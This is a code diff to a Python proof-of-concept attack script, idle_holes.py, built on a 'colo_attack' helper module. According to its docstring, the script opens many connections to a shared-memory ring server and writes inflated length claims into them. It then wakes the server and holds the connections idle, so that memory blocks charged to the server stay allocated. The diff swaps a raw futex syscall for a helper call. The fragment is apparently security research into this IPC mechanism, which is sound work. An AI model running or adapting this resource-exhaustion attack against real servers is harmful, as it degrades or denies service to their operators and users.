@@ -6,7 +6,7 @@ has read them (its ring_tail), keeps every connection open and idle: prints "REA
 client-to-server blocks (SEEK_DATA), which the server's reads made, charged to the server, and
 which stay for as long as the connections do.
 Usage: idle_holes.py PORT N CLAIM PREFIX HOLD"""
-import ctypes, mmap, os, socket, struct, sys, time
+import mmap, os, struct, sys, time
 sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
 import colo_attack as ca
 port, n, claim, prefix, hold = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]), sys.argv[4].encode().decode("unicode_escape").encode("latin-1"), float(sys.argv[5])
@@ -14,7 +14,6 @@ RING = 64 << 20
 SIZE = ca.segment_size(RING, 0, 0)
 C2S, DATA = ca.HEADER, 1024
 S2C = ca.HEADER + (SIZE - ca.HEADER) // 2
-LIBC = ctypes.CDLL(None, use_errno=True)
 conns = []
 for i in range(n):
     t, ctl, fd = ca.carrier_offer(RING, port)
@@ -25,9 +24,7 @@ for i in range(n):
     m[C2S + DATA:C2S + DATA + len(prefix)] = prefix
     struct.pack_into("<I", m, C2S + 12, RING)
     struct.pack_into("<Q", m, C2S, len(prefix) + claim)
-    ctl.send(b"r", socket.MSG_DONTWAIT)
-    addr = ctypes.addressof(ctypes.c_char.from_buffer(m, ca.SERVER_WAITING))
-    LIBC.syscall(202, ctypes.c_void_p(addr), 1, 0x7FFFFFFF, None, None, 0)
+    ca.ring(m, ca.SERVER_WAITING, ctl)
     end = time.time() + 20
     while time.time() < end and struct.unpack_from("<Q", m, C2S + 128)[0] < len(prefix) + claim:
         time.sleep(0.02)
